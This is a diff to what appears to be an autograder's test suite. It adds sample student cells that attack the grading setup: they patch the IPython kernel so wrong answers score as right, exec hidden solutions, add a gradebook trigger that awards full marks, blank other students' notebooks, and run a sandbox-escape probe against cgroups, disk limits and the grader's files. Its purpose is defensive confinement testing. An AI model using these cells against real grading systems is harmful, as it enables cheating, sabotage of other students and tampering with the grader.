@@ -245,3 +245,155 @@ RUNAWAY_CELLS = {
     "thread_explosion": ("import threading, time\nwhile True:\n"
                          "    threading.Thread(target=time.sleep, args=(600,), daemon=True).start()"),
 }
+
+
+# -- attacks on the grader itself (issue 18), each one cell a student could write ----------------------
+# In-kernel: they beat the kernel guard of commit 37da1a9 and score wrong answers as right.
+THREAD_READDS_TRANSFORMER = """
+import threading, time
+def _swallow(lines):
+    body = "".join(lines)
+    inner = "".join("    " + ln if ln.strip() else ln for ln in body.splitlines(True))
+    return ["try:\\n", inner.rstrip("\\n") + "\\n", "    pass\\n", "except BaseException:\\n", "    pass\\n"]
+_ip = get_ipython()
+def _keep():
+    while True:
+        if _swallow not in _ip.input_transformers_post:
+            _ip.input_transformers_post.append(_swallow)
+        time.sleep(0.0005)
+threading.Thread(target=_keep, daemon=True).start()
+"""
+
+PATCH_AST_PARSE = """
+import ast as _ast
+get_ipython().compile.ast_parse = lambda source, *a, **k: _ast.parse("pass")
+"""
+
+PATCH_SESSION_SEND = """
+_kernel = get_ipython().kernel
+_real_send = _kernel.session.send
+def _no_errors(stream, msg_or_type, content=None, *a, **k):
+    if msg_or_type == "error":
+        return None
+    if msg_or_type == "execute_reply" and isinstance(content, dict) and content.get("status") == "error":
+        content = {"status": "ok", "execution_count": content.get("execution_count"), "payload": [],
+                   "user_expressions": {}}
+    return _real_send(stream, msg_or_type, content, *a, **k)
+_kernel.session.send = _no_errors
+"""
+
+FORGE_GUARD = """
+import ast, builtins, hashlib
+class _NoAsserts(ast.NodeTransformer):
+    def visit_Assert(self, node):
+        return ast.Pass()
+get_ipython().ast_transformers.append(_NoAsserts())
+builtins.__tlcourse_guard__.restore = lambda nonce: print(hashlib.sha256(nonce.encode()).hexdigest())
+"""
+
+# Out of the kernel: they reach the course, the gradebook, the other students and the grader.
+EXEC_SOLUTIONS = """
+import glob, json, os
+_roots = [os.environ.get("TLCOURSE_ROOT", "")]
+for _pid in [p for p in os.listdir("/proc") if p.isdigit()]:
+    try:
+        _roots.append(os.readlink(f"/proc/{_pid}/cwd"))
+    except OSError:
+        pass
+for _root in _roots:
+    for _path in glob.glob(os.path.join(_root, "solutions", "*", "*.ipynb")) + glob.glob(
+            os.path.join(_root, "tests", "fixtures", "grading", "solutions", "*", "*.ipynb")):
+        try:
+            for _cell in json.load(open(_path))["cells"]:
+                _src = "".join(_cell["source"])
+                if "BEGIN SOLUTION" in _src and _cell["cell_type"] == "code":
+                    exec(_src, globals())
+        except Exception:
+            pass
+"""
+
+GRADEBOOK_TRIGGER = """
+import glob, os, sqlite3
+for _db in glob.glob("../../../gradebook.db") + glob.glob("../../../../../gradebook.db"):
+    try:
+        _c = sqlite3.connect(_db)
+        _c.execute("CREATE TRIGGER IF NOT EXISTS full_marks AFTER UPDATE ON grade BEGIN "
+                   "UPDATE grade SET auto_score = (SELECT max_score FROM grade_cells WHERE id = NEW.cell_id) "
+                   "WHERE id = NEW.id AND auto_score IS NOT (SELECT max_score FROM grade_cells WHERE id = NEW.cell_id); END")
+        _c.commit()
+    except Exception:
+        pass
+"""
+
+SABOTAGE_OTHERS = """
+import glob, json, time
+for _ in range(100):  # wait for the others' copies, then blank their answers
+    _theirs = [p for p in glob.glob("../../../../../submitted/*/*/*.ipynb") if "/zz_" in p]
+    if _theirs:
+        break
+    time.sleep(0.05)
+for _path in _theirs:
+    _nb = json.load(open(_path))
+    for _cell in _nb["cells"]:
+        if _cell.get("metadata", {}).get("nbgrader", {}).get("solution") and _cell["cell_type"] == "code":
+            _cell["source"] = "raise NotImplementedError()"
+    json.dump(_nb, open(_path, "w"))
+"""
+
+OUT_OF_KERNEL_ATTACKS = {"exec_solutions": EXEC_SOLUTIONS, "gradebook_trigger": GRADEBOOK_TRIGGER,
+                         "sabotage_others": SABOTAGE_OTHERS}
+IN_KERNEL_ATTACKS = {"thread_readds_transformer": THREAD_READDS_TRANSFORMER, "patch_ast_parse": PATCH_AST_PARSE,
+                     "patch_session_send": PATCH_SESSION_SEND, "forge_guard": FORGE_GUARD}
+
+
+def confinement_probe(secrets: dict[str, str], grader_pid: int, canary: str, disk_mb: int) -> str:
+    """A cell that tries what a confined kernel must not do, and prints what it managed as FACTS{json}.
+
+    ``secrets``: label -> a path it must not read (a solution, the gradebook, another
+    student's notebook); ``canary``: a folder it plants as the grader's socket folder.
+    """
+    return f"""
+import glob, json, os, signal
+facts = {{"uid": os.getuid(), "pids": sorted(int(p) for p in os.listdir("/proc") if p.isdigit()),
+          "env_root": "TLCOURSE_ROOT" in os.environ, "read": {{}}, "wrote": {{}}}}
+for label, path in {secrets!r}.items():
+    try:
+        open(path, "rb").read(10)
+        facts["read"][label] = True
+    except OSError:
+        facts["read"][label] = False
+for label, path in {{"solution_dir": os.path.dirname({secrets.get('solution', '/nonexistent')!r}) + "/planted.py",
+                    "home_of_grader": "/root/planted", "usr": "/usr/planted"}}.items():
+    try:
+        open(path, "w").write("x")
+        facts["wrote"][label] = True
+    except OSError:
+        facts["wrote"][label] = False
+try:
+    os.kill({grader_pid}, 0)
+    facts["signal_grader"] = True
+except OSError:
+    facts["signal_grader"] = False
+for link in glob.glob("../../../../ipc-dir") + glob.glob("../../../ipc-dir"):
+    try:
+        open(link, "w").write({canary!r})  # the grader rmtree()s what this file names
+    except OSError:
+        pass
+try:
+    for procs in glob.glob("/sys/fs/cgroup/*/cgroup.procs") + ["/sys/fs/cgroup/cgroup.procs"]:
+        open(procs, "w").write(str(os.getpid()))
+    facts["left_cgroup"] = True
+except OSError:
+    facts["left_cgroup"] = False
+try:
+    with open("big.bin", "wb") as fh:
+        for _ in range({disk_mb} + 16):
+            fh.write(b"x" * 2**20)
+    facts["disk_cap"] = False
+except OSError:
+    facts["disk_cap"] = True
+finally:
+    if os.path.exists("big.bin"):
+        os.remove("big.bin")
+print("FACTS" + json.dumps(facts))
+"""
